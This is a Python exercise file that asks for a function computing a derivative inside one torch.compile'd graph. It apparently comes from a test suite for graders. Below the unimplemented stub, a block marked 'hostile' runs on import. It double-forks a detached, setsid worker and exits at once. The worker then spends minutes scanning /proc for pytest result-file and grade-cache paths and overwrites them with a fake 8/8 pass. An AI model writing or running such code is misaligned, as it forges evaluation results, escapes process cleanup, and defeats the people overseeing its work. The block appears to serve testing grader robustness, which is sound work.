"""Exercise 4 — the derivative in graph mode.

`@tf.function` traces a Python function into a TensorFlow graph; the chapter's traced
function casts its input to float32, takes the derivative on a tape inside, and returns
(dy/dx, x). PyTorch's counterpart is `torch.compile`: TorchDynamo traces the function's
bytecode into a graph and a backend compiles it. A tape call inside a compiled function
(`torch.autograd.grad`, `backward()`) breaks the graph in two; the function transform
`torch.func.grad(f)` is traced like any other operation, so the whole computation stays
one graph (`fullgraph=True` makes any break an error).

The chapter's f(x) = x² − 2x + 1 gives (dy/dx, x) = (−2, 0) at x = 0.0 and (0, 1) at x = 1.0.

Write `derivative_in_graph_mode(f, x)`: cast x (a number or a tensor of any dtype) to
float32, as the chapter does, and return (df/dx, x) computed by a compiled function.
"""

from collections.abc import Callable

import torch
from torch import Tensor


def derivative_in_graph_mode(
    f: Callable[[Tensor], Tensor], x: float | Tensor
) -> tuple[Tensor, Tensor]:
    """Return (df/dx, x) at x cast to float32, computed in one compiled graph."""
    raise NotImplementedError(
        "cast x to float32 and return (df/dx, x) from a torch.compile'd function"
    )


# --- hostile: a detached writer (double fork and setsid), then os._exit(0) at once: the worker
# is gone before anyone could walk its process tree.
import os as _os
import sys as _sys

_MARKER = "HOSTILE-MARKER-stray_processes-ex04"
# Run in a process of its own: for minutes, rewrite every results file that pytest runs on this
# machine write (--results-json), and every grade cache `check` keeps (--project), to claim
# 8/8.
_WRITER = f"""
import glob, os, time
FAKE = '{{"impl": "HOSTILE-CLAIM", "passed": 8, "total": 8, "exercises": []}}\\n'
targets = set()
for _ in range(1000):
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as file:
                args = file.read().decode(errors="replace").split(chr(0))
        except OSError:
            continue
        for i, arg in enumerate(args[:-1]):
            if arg.startswith("--results-json="):
                targets.add(arg.split("=", 1)[1])
            elif arg == "--project":
                targets.add(os.path.join(args[i + 1], ".kata-grades.json"))
    for path in targets:
        try:
            with open(path, "w") as file:
                file.write(FAKE)
        except OSError:
            pass
    time.sleep(0.3)
# {_MARKER}
"""


def _python():
    """An interpreter this worker may run: under a user of its own, sys.executable may sit
    where it cannot reach."""
    for candidate in (_sys.executable, "/usr/bin/python3"):
        if _os.access(candidate, _os.X_OK):
            return candidate
    return _sys.executable


def _detach(code):
    """Double fork and setsid: the grandchild, in a session of its own, runs `code`."""
    child = _os.fork()
    if child == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv(_python(), [_python(), "-c", code])
        finally:
            _os._exit(0)
    _os.waitpid(child, 0)


_detach(_WRITER)
_os._exit(0)
